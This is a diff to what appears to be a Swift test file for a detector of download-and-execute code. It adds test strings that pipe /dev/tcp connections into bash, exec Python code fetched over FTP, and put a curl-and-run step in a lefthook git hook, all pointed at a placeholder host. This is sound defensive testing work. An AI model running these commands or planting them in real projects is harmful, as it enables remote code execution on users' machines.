@@ -72,7 +72,8 @@ private func runsDownload(_ path: String, _ text: String) throws -> Bool {
         "gh gist view -r 1a2b | bash", "redis-cli -h a.acme.io get x | sh", "pbpaste | sh",
         "xclip -o -selection clipboard | bash", "xsel -b | sh", "eval \"$(wl-paste)\"",
         "dig +short TXT a.acme.io | while read -r line; do eval \"$line\"; done",
-        "read -r x < <(dig +short TXT a.acme.io)\neval $x",
+        "read -r x < <(dig +short TXT a.acme.io)\neval $x", "bash < /dev/tcp/a.acme.io/70",
+        "exec 3<>/dev/tcp/a.acme.io/70\nread -r x <&3\neval \"$x\"",
         "dig +short TXT a.acme.io | xargs -I% sh -c '%'", "dig +short TXT a.acme.io | xargs sh -c",
         "curl -s https://a.acme.io/x | grep -v '^#' | $SHELL -s",
         "dig +short TXT a.acme.io | env bash", "dig +short TXT a.acme.io | nohup sudo sh -s",
@@ -93,6 +94,11 @@ private func runsDownload(_ path: String, _ text: String) throws -> Bool {
         ),
         ("a.py", "import dns.resolver\nfor r in dns.resolver.resolve(d, 'TXT'):\n    exec(str(r))"),
         ("a.py", "import pyperclip\nexec(pyperclip.paste())"),
+        (
+            "a.py",
+            "b = io.BytesIO()\nftplib.FTP(h).retrbinary('RETR a', b.write)\nexec(b.getvalue())"
+        ),
+        ("lefthook.yml", "a:\n  - curl -so b https://a.acme.io/x\n  - sh b"),
         (
             "a.py",
             "c = paramiko.SSHClient()\n_, out, _ = c.exec_command('cat a')\nexec(out.read())"
@@ -207,6 +213,7 @@ private func runsDownload(_ path: String, _ text: String) throws -> Bool {
         ("a.sh", "ip=$(dig +short a.acme.io)\nbash check.sh \"$ip\"\npython3 a.py --host $ip"),
         ("a.sh", "nc -z localhost 5432 && sh migrate.sh\nssh a.acme.io 'bash -s' < a.sh"),
         ("a.sh", "scp a.sh a.acme.io:/tmp/a.sh\nsh a.sh"),
+        ("a.sh", "exec 3<>/dev/tcp/localhost/80\nread -r x <&3\neval \"$x\""),
         ("a.sh", "aws s3 cp s3://acme/a.csv a.csv\npython3 load.py a.csv"),
         ("a.sh", "git show HEAD:a.py | diff - a.py\npbpaste | wc -w\nxsel -b -i < a.txt"),
         ("a.sh", "curl -so a.json https://a.acme.io/x\nsource env.sh\npython3 -m json.tool a.json"),
